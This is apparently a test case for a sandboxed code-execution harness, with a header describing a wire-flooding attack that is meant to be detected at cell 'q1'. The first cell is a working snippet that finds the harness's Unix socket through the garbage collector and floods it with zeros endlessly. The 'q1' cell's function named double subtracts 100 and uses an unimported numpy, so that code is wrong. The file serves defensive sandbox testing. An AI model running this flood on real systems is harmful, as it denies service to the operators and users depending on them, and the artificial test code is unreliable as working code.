# ---
# attack: 'Writes into the wire without an end, and never reads.'
# class: forging or flooding wire frames and handles
# sandboxes: [namespaces, off]
# detected: q1
# ---
# %% before="q1"
import gc
import socket

wire = next(thing for thing in gc.get_objects() if type(thing) is socket.socket and thing.family == socket.AF_UNIX)
wire.settimeout(None)
while True:
    wire.sendall(b"\0" * 2**20)

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
